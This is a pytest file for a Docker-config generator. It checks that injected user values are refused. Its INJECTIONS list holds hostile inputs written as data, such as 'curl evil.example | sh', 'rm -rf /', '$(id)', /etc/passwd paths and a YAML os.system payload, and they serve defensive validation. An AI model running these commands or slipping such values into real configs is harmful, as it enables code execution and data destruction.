"""Nothing that a user writes means more in a generated file than it says."""

from __future__ import annotations

from dataclasses import replace

import pytest

from nbdeploy import Bundle, ContainerError, DockerConfig
from nbdeploy.containers.checked_values import (
    checked_image,
    checked_service_name,
    service_name_from,
)
from nbdeploy.display.html import visible

INJECTIONS = [
    "a\nRUN curl evil.example | sh",
    "a\r\nUSER root",
    "a\u2028USER root",
    "a\x00b",
    "a\x1b[31m",
    'a"\nUSER root',
    'a" \\\n b="',
    "a' || true '",
    "$(id)",
    "`id`",
    "${IFS}id",
    "$HOME",
    "%$PATH",
    "a; rm -rf / #$",
    "a && b\n",
    "a | sh\t",
    "a > /etc/passwd\n",
    "../../etc/passwd\n",
    "..\\..\\windows",
    "model/../../secret\n",
    "*\n",
    "a: b\nprivileged: true",
    "a\n  privileged: true",
    "- a\n- b",
    "{{.Env.TOKEN}}\\",
    "!!python/object/apply:os.system ['id']",
    "&anchor *anchor",
    "<<: *default",
    "a # comment\n",
    "# syntax=evil.example/frontend\n",
    "--mount=type=bind\n",
    "<<EOT\nRUN id\nEOT",
    "a\n---\nb: c",
    "\ufeffa",
    "a\u202egnp",
    "a\u200bb",
    "模型\n",
    "<script>alert(1)</script>",
    '["sh", "-c", "id"]',
    "a\\\n",
    "a'b",
    "é",
]
PLACES = {
    "requirements": lambda text: DockerConfig.generate_dockerfile(text, "model.joblib"),
    "model": lambda text: DockerConfig.generate_dockerfile("requirements.txt", text),
    "base image": lambda text: DockerConfig.generate_dockerfile("r.txt", "m", base_image=text),
    "port": lambda text: DockerConfig.generate_dockerfile("r.txt", "m", text),
    "label": lambda text: DockerConfig.generate_dockerfile("r.txt", "m", labels={text: "1"}),
    "label value": lambda text: DockerConfig.generate_dockerfile("r.txt", "m", labels={"a": text}),
    "variable": lambda text: DockerConfig.generate_dockerfile("r", "m", environment={text: "1"}),
    "value": lambda text: DockerConfig.generate_dockerfile("r", "m", environment={"A": text}),
    "service": lambda text: DockerConfig.generate_compose_file(text, "image"),
    "image": lambda text: DockerConfig.generate_compose_file("service", text),
    "published port": lambda text: DockerConfig.generate_compose_file("service", "image", text),
    "compose value": lambda text: DockerConfig.generate_compose_file(
        "service", "image", environment={"A": text}
    ),
    "compose label": lambda text: DockerConfig.generate_compose_file(
        "service", "image", labels={text: ""}
    ),
    "memory": lambda text: DockerConfig.generate_compose_file("service", "image", memory=text),
}


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("text", INJECTIONS)
def test_a_text_that_could_mean_more_is_refused_and_named(place, text):
    with pytest.raises(ContainerError) as refused:
        PLACES[place](text)

    told = str(refused.value)
    assert visible(repr(text)) in told
    assert "Expected" in told
    assert "\n" not in told


def test_there_are_at_least_forty_of_them():
    assert len(set(INJECTIONS)) >= 40


OPTIONS = {
    "labels": lambda text: {"labels": {"team": text}},
    "names of labels": lambda text: {"labels": {text: "data"}},
    "environment": lambda text: {"environment": {"A": text}},
    "names of variables": lambda text: {"environment": {text: "1"}},
    "base image": lambda text: {"base_image": text},
    "port": lambda text: {"port": text},
    "memory": lambda text: {"memory": text},
    "requirements": lambda text: {"requirements": [text]},
}


@pytest.mark.parametrize("option", OPTIONS)
def test_no_file_is_written_when_one_text_is_refused(model, tmp_path, option):
    # What a requirement is called is known only after a look at the model: a few are enough.
    for text in INJECTIONS[:: 8 if option == "requirements" else 1]:
        with pytest.raises(ContainerError) as refused:
            Bundle.create(model, tmp_path / "made", **OPTIONS[option](text))
        assert visible(repr(text)) in visible(str(refused.value))

    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_engine_is_asked_when_an_image_is_refused(written, fake_docker, text):
    asked = fake_docker("exit 0")
    built = replace(written, image="iris:1")

    for refused in (lambda: written.build(text), lambda: built.push(text)):
        with pytest.raises(ContainerError, match="is no name of an image"):
            refused()

    assert not asked.exists()


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_name_is_made_plain_and_means_nothing_in_any_file(text):
    assert checked_service_name(service_name_from(text)) == service_name_from(text)


@pytest.mark.parametrize("name", ["NBDEPLOY_TOKEN", "DB_PASSWORD", "AWS_SECRET_KEY", "api_key"])
def test_a_secret_is_not_written_into_a_file(name):
    with pytest.raises(ContainerError, match="looks like a secret") as refused:
        DockerConfig.generate_compose_file("churn", "churn:1", environment={name: "hunter2"})

    assert "hunter2" not in str(refused.value)


def test_a_name_that_only_sounds_like_one_is_taken():
    for name in ("TOKENIZERS_PARALLELISM", "KEYBOARD", "SECRETARY"):
        assert name in DockerConfig.generate_compose_file("a", "b", environment={name: "1"})


@pytest.mark.parametrize("path", ["/etc/passwd", "../m", "a/../../b", "", ".", "a//b", "-r", "~"])
def test_a_path_stays_in_the_folder_that_is_built(path):
    with pytest.raises(ContainerError, match="below the folder that is built"):
        DockerConfig.generate_dockerfile("requirements.txt", path)


@pytest.mark.parametrize("port", [0, 80, 1023, 65536, -1, 8000.0, True, None, "8000"])
def test_a_port_needs_no_privileges(port):
    with pytest.raises(ContainerError, match="Expected a whole number from 1024"):
        DockerConfig.generate_compose_file("churn", "churn:1", port)


@pytest.mark.parametrize(
    "image",
    ["churn", "churn:1.1", "a/b", "registry.example:5000/team/churn:1_1", "localhost/x",
     "python:3.11-slim@sha256:" + "0" * 64],
)  # fmt: skip
def test_images_of_all_kinds_are_taken(image):
    assert checked_image(image) == image


@pytest.mark.parametrize("image", ["", "Churn", "a:b:c", "a/", "/a", "a:", "-a", "a" * 256])
def test_what_is_no_image_is_refused(image):
    with pytest.raises(ContainerError, match="is no name of an image"):
        checked_image(image)


def test_a_service_has_a_name_that_resolves():
    assert checked_service_name("a" * 63) == "a" * 63
    for name in ["", "A", "a_b", "-a", "a-", "a" * 64, None, 1]:
        with pytest.raises(ContainerError, match="is no name of a container"):
            checked_service_name(name)
